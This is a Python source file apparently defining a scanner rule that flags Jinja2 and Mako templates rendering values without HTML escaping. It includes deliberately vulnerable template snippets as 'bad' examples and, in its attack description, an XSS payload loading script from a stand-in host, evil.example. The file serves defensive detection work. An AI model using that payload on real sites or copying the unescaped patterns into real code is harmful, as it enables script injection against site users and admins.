"""A template engine that puts values into HTML as they are."""

from __future__ import annotations

import re

from vetline_analyzers.core.finding import Confidence, Fix, Severity
from vetline_analyzers.syntax.around import extended, setting, splatted
from vetline_analyzers.syntax.python_web import call_around
from vetline_analyzers.syntax.rule import Hit, PatternRule, Report
from vetline_analyzers.syntax.scope import callee

_JINJA = frozenset(
    {"jinja2.Environment", "jinja2.sandbox.SandboxedEnvironment", "jinja2.environment.Environment"}
    | {
        "jinja2.sandbox.ImmutableSandboxedEnvironment",
        "Environment",
    }
)
_OWNERS = re.compile(
    r"(?:.*\.)?(?:\w*Environment|Template|Context|RequestContext|Engine|select_autoescape|Loader|Application)"
)
_HTML = re.compile(
    r"<\s*(?:html|body|div|p|h\d|a|span|td|li|script|b|title|form|input)\b", re.IGNORECASE
)
_SAFE = re.compile(r"\{\{[^}]{0,200}\|\s{0,9}safe\s{0,9}\}\}|\{%-?\s*autoescape\s+(?:false|off)")
_OFF = frozenset({"False", "None", "0"})


def _check(hit: Hit) -> Report | None:
    if hit.node.type == "string":
        text = hit.string(hit.node)
        if text is None or not _SAFE.search(text):
            return None
        return Report(
            "This template leaves a value unescaped: drop |safe, or escape the value before.",
            tentative=True,
        )
    if not hit.name:
        return _switched(hit)
    if hit.name.startswith("mako."):
        filters = hit.keyword("default_filters")
        if filters is not None and re.search(r"['\"]h['\"]", hit.text(filters)):
            return None
        return Report(_MESSAGE, severity=Severity.MEDIUM, tentative=True)
    if hit.name == "jinja2.Template":
        text = hit.string(hit.argument(0)) or ""
        html = _HTML.search(text) and "{{" in text and hit.keyword("autoescape") is None
        return Report(_MESSAGE, tentative=True) if html else None
    return _environment(hit)


def _environment(hit: Hit) -> Report | None:
    if hit.keyword("autoescape") is not None or splatted(hit):
        return None  # its value is looked at where it stands
    if hit.name == "Environment" and hit.keyword("loader") is None:
        return None
    add = extended(hit, "autoescape=True")
    fix = Fix("Escape values", (add,), safe=False) if add is not None else None
    return Report(_MESSAGE, fix=fix)


def _switched(hit: Hit) -> Report | None:
    found = setting(hit)
    if found is None or hit.text(found[1]) not in _OFF:
        return None
    call = call_around(hit)
    function = callee(call) if call is not None else None
    if hit.node.type == "keyword_argument" and (
        function is None or not _OWNERS.fullmatch(hit.text(function))
    ):
        return None
    fix = Fix("Escape values", (hit.edit(found[1], "True"),), safe=False)
    return Report(_MESSAGE, fix=fix)


_MESSAGE = "Values go into the HTML as they are, also <script>: pass autoescape=True or select_autoescape()."

RULE = PatternRule(
    id="python/template-autoescape-off",
    title="Templates that do not escape",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    tentative=True,
    cwe=(79, 116),
    page="""
Jinja2's `Environment` and Mako put values into a page as they are unless they are told to escape; Flask
and Django tell them. A name with a `<script>` in it then runs in the browser of everybody who sees the
page. For mail and configuration files it does not matter.
""",
    attack="Calls themselves `<script src=//evil.example/x.js></script>` and waits for an admin to look.",
    advice='Pass `autoescape=True` or `autoescape=select_autoescape()`; to Mako `default_filters=["h"]`.',
    bad=(
        """\
from jinja2 import Environment, FileSystemLoader

env = Environment(loader=FileSystemLoader("templates"))
""",
        """\
import jinja2

env = jinja2.Environment(loader=loader, autoescape=False)
""",
        """\
from mako.template import Template

page = Template("<p>${name}</p>").render(name=name)
""",
        """\
from jinja2 import Template

page = Template("<p>Hello {{ name }}</p>").render(name=name)
""",
        """\
def page(name):
    return render_template_string("<p>{{ name|safe }}</p>", name=name)
""",
    ),
    good=(
        """\
from jinja2 import Environment, FileSystemLoader, select_autoescape

env = Environment(loader=FileSystemLoader("templates"), autoescape=select_autoescape())
""",
        """\
import jinja2

env = jinja2.Environment(loader=loader, autoescape=True)
""",
        """\
from mako.template import Template

page = Template("<p>${name}</p>", default_filters=["h"]).render(name=name)
""",
        """\
from jinja2 import Template

line = Template("Dear {{ name }},").render(name=name)
""",
    ),
    same_as=("bandit/B701", "bandit/B702"),
    url="https://jinja.palletsprojects.com/en/stable/api/#autoescaping",
    names=(
        *sorted(_JINJA),
        *("mako.template.Template", "mako.lookup.TemplateLookup", "jinja2.Template"),
    ),
    query="""
        ((keyword_argument name: (identifier) @_key) @hit (#eq? @_key "autoescape"))
        ((pair key: (string (string_content) @_key)) @hit (#eq? @_key "autoescape"))
        ((string (string_content) @_text) @hit (#match? @_text "\\\\|\\\\s*safe\\\\s*\\\\}\\\\}|autoescape\\\\s+(false|off)"))
    """,
    check=_check,
)
